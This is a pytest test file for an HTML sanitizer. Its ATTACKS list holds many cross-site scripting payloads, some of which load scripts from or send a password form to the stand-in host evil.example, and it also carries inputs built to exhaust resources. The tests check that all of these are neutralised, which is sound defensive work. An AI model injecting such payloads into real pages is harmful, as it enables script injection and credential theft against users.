import re
import time

import pytest

from fedcom.text import html
from fedcom.text.html import MAX_PLAIN, excerpt_of, one_line, sanitize, to_text
from fedcom.text.titles import title_of
from tests.fedcom.text.strict_reader import read_strictly

LINK_END = ' rel="nofollow noopener noreferrer"'


def cell(attributes: str) -> str:
    """A table with one cell that has these attributes."""
    return f"<table><tbody><tr><td{' ' * bool(attributes)}{attributes}>1</td></tr></tbody></table>"


# After the OWASP "XSS Filter Evasion" cheat sheet, and known attacks on similar software.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example></script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//\\<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://a.example/x.png' onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src=http://tracker.example/pixel.gif>",
    "<img src=//tracker.example/pixel.gif>",
    "<img srcset='https://a.example/x 2x' src='https://a.example/x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/u/me/delete'>x</a>",
    "<a href='https://a.example' onclick=alert(1)>x</a>",
    "<a href='https://a.example' target=_blank style='position:fixed'>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p id=csrf name=csrf class='btn admin'>x</p>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<body onload=alert(1)>x</body>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<xss style=behavior:url(xss.htc)>x</xss>",
    "<b <script>alert(1)</script>0",
    "<b/onclick=alert(1)>x</b>",
    "<b x='>' onclick=alert(1)>x</b>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p>a {} b</p>", "<ul><li>{}</ul>", "<table><td>{}"])
def test_an_attack_leaves_only_allowed_tags_and_attributes(attack, around):
    clean = sanitize(around.format(attack))
    read_strictly(clean)
    assert sanitize(clean).count("<") == clean.count("<")


def link(address: str) -> str:
    return f'<a href="{address}"{LINK_END}>{address}</a>'


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        (
            "<p>See <video src='https://a.example/1.mp4' controls>no video</video></p>",
            f"<p>See {link('https://a.example/1.mp4')} no video</p>",
        ),
        (
            "<video><source src=https://a.example/1.webm><source src=https://a.example/1.mp4>"
            "</video>",
            f"{link('https://a.example/1.webm')} ",
        ),
        (
            "<audio><source src=http://a.example/1.ogg></audio><audio src=https://b.example/2>",
            f"{link('http://a.example/1.ogg')} {link('https://b.example/2')} ",
        ),
        (
            "<a href=https://a.example/page><video src=https://a.example/1.mp4></video></a>",
            f'<a href="https://a.example/page"{LINK_END}>https://a.example/1.mp4</a>',
        ),
        ("<video src=javascript:alert(1)></video><audio src=//a.example/1>b</audio>", "b"),
    ],
)
def test_video_and_audio_become_links(given, kept):
    assert sanitize(given) == kept
    read_strictly(sanitize(given))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
        ("<h2>T</h2><hr>", "<h2>T</h2><hr>"),
        ("<blockquote><p>q</p></blockquote>", "<blockquote><p>q</p></blockquote>"),
        ("<pre><code>x &lt; y</code></pre>", "<pre><code>x &lt; y</code></pre>"),
        ('<ol start="3"><li>c</li></ol>', '<ol start="3"><li>c</li></ol>'),
        ("<details><summary>s</summary>t</details>", "<details><summary>s</summary>t</details>"),
        ('<strong class="x" onclick="y">s</strong>', "<strong>s</strong>"),
        ("<figure>a</figure>", "a"),
        ('<p lang="de" title="x">a</p>', '<p lang="de">a</p>'),
        ("a &amp; b &lt;i&gt;", "a &amp; b &lt;i&gt;"),
        (
            '<a class="u-url mention" href="https://a.example/@b">@<span>b</span></a>',
            f'<a class="mention" href="https://a.example/@b"{LINK_END}>@<span>b</span></a>',
        ),
        (
            '<a href="https://a.example/?x=1&y=2" rel="me" target="_blank">l</a>',
            f'<a href="https://a.example/?x=1&amp;y=2"{LINK_END}>l</a>',
        ),
        (
            '<span class="invisible">https://</span><span class="ellipsis">a.example</span>',
            '<span class="invisible">https://</span><span class="ellipsis">a.example</span>',
        ),
        ('<a href="mailto:a@b.example">m</a>', f'<a href="mailto:a@b.example"{LINK_END}>m</a>'),
        # The alignment of a column, as each of two renderers of Markdown writes it.
        (cell('style="text-align: Right"'), cell('align="right"')),
        (cell('align="CENTER"'), cell('align="center"')),
        (cell('style="color:red;text-align:left" align="right"'), cell('align="left"')),
        (cell('align="justify"'), cell("")),
        (cell('style="text-align:url(x)"'), cell("")),
        ('<p align="right" style="text-align:right">a</p>', "<p>a</p>"),
    ],
)
def test_honest_markup_stays(given, kept):
    assert sanitize(given) == kept


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ('<img src="" alt="a &lt;cat&gt;">', "a &lt;cat&gt;"),
        ("<img>", ""),
        ("<img src=data:image/png;base64,AAAA alt=x>", "x"),
        ('<img src="http://a.example/x?1&amp;2">', "http://a.example/x?1&amp;2"),
        ('<a href="https://b.example/"><img src="http://a.example/x" alt="c"></a>', "c"),
    ],
)
def test_a_picture_that_cannot_be_shown_leaves_its_link_or_its_description(given, kept):
    clean = sanitize(given)

    assert "<img" not in clean
    assert re.sub("</?a[^>]*>", "", clean) == kept
    assert clean.count("<a ") == ("http" in given)
    assert sanitize(clean) == clean


def test_images_are_loaded_lazily_without_a_referrer():
    clean = sanitize('<img src="https://a.example/x.png" alt="a cat" width="1">')
    for attribute in [
        'src="https://a.example/x.png"',
        'alt="a cat"',
        'loading="lazy"',
        'referrerpolicy="no-referrer"',
    ]:
        assert attribute in clean
    assert "width" not in clean


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("a\x00b\x08c", "abc"),
        ("safe\u202egnp.exe", "safegnp.exe"),
        ("half \ud800 a character", "half  a character"),
        ("&#0;&#xD800;", "\ufffd\ufffd"),
        ("שלום \u2067ok\u2069", "שלום \u2067ok\u2069"),
    ],
)
def test_characters_that_cannot_be_stored_or_turn_text_around_are_dropped(given, kept):
    clean = sanitize(given)
    assert clean == kept
    clean.encode()


HUGE = {
    "text": "x" * 1_000_000,
    "ampersands": "&" * 1_000_000,
    "ampersands below the limit": "&" * 19_999,
    "less-thans": "<" * 1_000_000,
    "unclosed blocks": "<div>" * 200_000,
    "unclosed blocks below the limit": "<div>" * 9_999,
    "lists": "<ul><li>" * 4_999,
    "tables": "<table><tr><td>" * 3_333,
    "formatting that is opened again in every block": "<p>"
    + "".join(f"<b x={number}>" for number in range(2_500))
    + "<p>x" * 2_500,
    "the same with quotes": "<p>"
    + "".join(f'<FONT a=">" x={number}>' for number in range(2_500))
    + "<p>x" * 2_500,
    "the same without attributes": "<p>"
    + "<b><code><em><i><s><small><strong><u><big><tt><font>" * 3
    + "<p>x" * 9_900,
    "formatting and blocks": "<b><p>" * 4_999,
    "attributes": "<a " + "x=1 " * 240_000 + ">",
    "tags without an end": "<b " * 300_000,
    "comments": "<!--" * 250_000,
    "quotes": '<a href="' * 100_000,
}


@pytest.mark.parametrize("given", HUGE.values(), ids=HUGE.keys())
def test_a_megabyte_costs_less_than_a_second_and_does_not_grow(given):
    started = time.process_time()
    clean = sanitize(given)
    text = to_text(given)
    title_of(given, 200)
    assert time.process_time() - started < 3
    assert len(clean) < 1_200_000
    assert len(text) <= 1_000_000


def test_a_thousand_levels_are_no_trouble():
    clean = sanitize("<div>" * 1_000 + "deep" + "</div>" * 1_000)
    assert to_text(clean) == "deep"


def test_html_that_is_too_long_is_shown_as_plain_text():
    clean = sanitize("<p>one</p><script>&lt;two</script>" + "<i>x</i>" * 200_000)
    assert clean.startswith("<p>one<br>&lt;twoxxx")
    assert len(clean) < MAX_PLAIN + 100


class _Panic(BaseException):
    """A stand-in for a panic of the Rust library."""


class _Broken:
    def clean(self, text):
        raise self.error


@pytest.mark.parametrize("error", [ValueError, RecursionError, MemoryError, _Panic])
def test_a_sanitizer_that_fails_leaves_escaped_text(monkeypatch, error):
    broken = _Broken()
    broken.error = error
    monkeypatch.setattr(html, "_CLEANER", broken)
    assert sanitize("<p>a &lt;script&gt; b</p><p onclick=x>c") == "<p>a &lt;script&gt; b<br>c</p>"
    assert to_text("<p>a</p><p>b</p>") == "a\nb"


def test_an_interrupt_is_not_mistaken_for_a_failing_sanitizer(monkeypatch):
    broken = _Broken()
    broken.error = KeyboardInterrupt
    monkeypatch.setattr(html, "_CLEANER", broken)
    with pytest.raises(KeyboardInterrupt):
        sanitize("a")


@pytest.mark.parametrize(
    ("given", "text"),
    [
        ("<p>a</p><p>b</p>", "a\nb"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("<p>x &lt;b&gt; &amp;amp; y</p>", "x <b> &amp; y"),
        ("<script>no</script>yes", "yes"),
        ("<p>  </p>", ""),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("", ""),
    ],
)
def test_html_becomes_lines_of_text(given, text):
    assert to_text(given) == text


LIST = "<ul><li>milk</li><li>eggs<ul><li>brown</li></ul></li></ul>"
TABLE = "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>"
CODE = "<pre><code>if x:\n    run()\n</code></pre>"


@pytest.mark.parametrize(
    ("given", "excerpt"),
    [
        ("<p>One.</p><p>Two</p>", "One. Two"),
        ("<h2>A heading</h2><p>Its text</p>", "A heading · Its text"),
        (f"<p>Bring:</p>{LIST}<p>and bread</p>", "Bring: milk · eggs · brown · and bread"),
        ('<ol start="3"><li>c</li><li>d</li></ol>', "c · d"),
        (TABLE, "a · b · 1 · 2"),
        (f"<p>So</p>{CODE}<p>Yes\nit is<br>so</p>", "So · if x: run() · Yes it is so"),
        ("<p>cut off</p><pre><code>a\nb <b", "cut off · a · b"),
        ("<p>x &lt;b&gt; <em>y</em></p>", "x <b> y"),
        ("<p>مرحبا؟</p><p>نعم</p>", "مرحبا؟ نعم"),
        ("", ""),
    ],
)
def test_an_excerpt_keeps_headings_items_cells_and_code_apart(given, excerpt):
    assert excerpt_of(given) == excerpt


def test_one_line_ends_with_the_block_in_which_it_is_long_enough():
    assert one_line("<p>one two</p><p>three</p><p>four</p>", 8) == "one two · three"


def test_an_excerpt_is_cut_to_its_length():
    assert excerpt_of("<p>one two</p><p>three</p>", 12) == "one two · t…"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("a<!-- <b> -->b<!-->c<!--->d", "abcd"),
        ("a<!-- b --!>c<!-- d", "ac"),
        ("a<!x>b<?y>c</ z>d</>e", "abcde"),
        ("<p a='>' b=\">\" =c d==e f>x</p>", "<p>x</p>"),
        ("a<b", "a"),
        ("a</", "a&lt;/"),
        ("a <3 b < c", "a &lt;3 b &lt; c"),
        ("<\u212abd>x", "&lt;\u212abd&gt;x"),
    ],
)
def test_mark_up_ends_where_browsers_end_it(given, kept):
    assert sanitize(given) == kept


def test_references_read_the_same_however_many_there_are():
    few = "&amp; & &copy; &lt;b&gt; &#8364; &#x20AC; &unknown; &NotEqualTilde;"
    assert sanitize(" ".join([few] * 500)) == " ".join([sanitize(few)] * 500)


def test_a_tag_with_very_long_attributes_is_left_without_them():
    assert sanitize(f'<p lang="de" title="{"x" * 9_000}">a</p>') == "<p>a</p>"


def test_html_that_is_nested_too_deeply_is_shown_as_plain_text():
    assert sanitize("<div>" * 501 + "deep") == "<p>deep</p>"
    assert (
        sanitize("<p>x" * 600 + "<br>" * 600) == "<p>x</p>" * 599 + "<p>x" + "<br>" * 600 + "</p>"
    )
    # The end of an outer tag does not count: here the parser ignores it.
    assert sanitize("<div><object></div></object>" * 501 + "deep") == "<p>deep</p>"
